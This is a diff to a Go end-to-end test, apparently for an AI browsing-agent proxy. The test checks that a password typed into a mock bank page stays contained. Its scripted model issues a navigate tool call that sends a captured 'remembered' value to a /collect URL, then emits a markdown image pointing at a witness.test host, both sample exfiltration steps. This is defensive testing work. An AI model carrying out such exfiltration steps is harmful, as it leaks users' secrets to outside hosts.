@@ -7,7 +7,6 @@ import (
 	"fmt"
 	"io"
 	"net/http"
-	"net/http/httptest"
 	"strings"
 	"sync"
 	"testing"
@@ -16,7 +15,6 @@ import (
 	"github.com/chromedp/chromedp"
 
 	"github.com/remixproxy/remixproxy/agent/scripted"
-	"github.com/remixproxy/remixproxy/e2e/e2etest"
 )
 
 // Issue 11, hole 2 (and the secret part of hole 3), in real Chromium through the real proxy: a
@@ -182,29 +180,20 @@ func TestContainmentSecretsInChromium(t *testing.T) {
 		{"tool_calls": [{"name": "navigate", "arguments": {"url": "/collect/navigate?p={{grab:remembered ([^\\s\\\\]+)}}"}}]},
 		{"text": "Done. ![x](https://witness.test/img?d=all)"}
 	]}`
-	sc, err := scripted.ParseScript([]byte(script))
-	if err != nil {
-		t.Fatalf("script: %v", err)
-	}
-	model := scripted.New(sc)
-	guard := &secretGuard{next: model}
-	ms := httptest.NewServer(guard)
-	t.Cleanup(ms.Close)
-	sites := e2etest.StartSites(t)
-	w := &witness{}
-	sites.Handle("witness.test", w)
+	var guard *secretGuard
 	collect := &collectLog{}
-	sites.Handle("bank.test", bankSite(collect))
-	p := e2etest.StartProxy(t, sites, e2etest.WithModel(ms.URL+"/v1", "openai"))
-	tab := e2etest.Browser(t, e2etest.ThroughProxy(p)).NewTab(t)
-	aw := &agentWorld{sites: sites, model: model, stop: ms.Close, proxy: p, tab: tab, witness: w}
+	aw := newGuardedAgentWorld(t, script, map[string]http.Handler{"bank.test": bankSite(collect)}, func(model *scripted.Server) http.Handler {
+		guard = &secretGuard{next: model}
+		return guard
+	})
+	tab, w, p, model := aw.tab, aw.witness, aw.proxy, aw.model
 
 	tab.Navigate("https://bank.test/login")
 	tab.WaitConnected()
 	tab.WaitFor(5*time.Second, "the page's script and its requests", pageScriptRan+` && document.body.dataset.profile === 'loaded' && document.body.dataset.me === 'sent'`)
 	// The person types a new password; the page sends it to its API when the field loses focus.
 	ctx, cancel := context.WithTimeout(tab.Context(), 15*time.Second)
-	err = chromedp.Do(ctx, chromedp.SendKeys(chromedp.CSS("#newpw"), secretTyped), chromedp.Focus(chromedp.CSS("#user")))
+	err := chromedp.Do(ctx, chromedp.SendKeys(chromedp.CSS("#newpw"), secretTyped), chromedp.Focus(chromedp.CSS("#user")))
 	cancel()
 	if err != nil {
 		t.Fatalf("typing the password: %v", err)
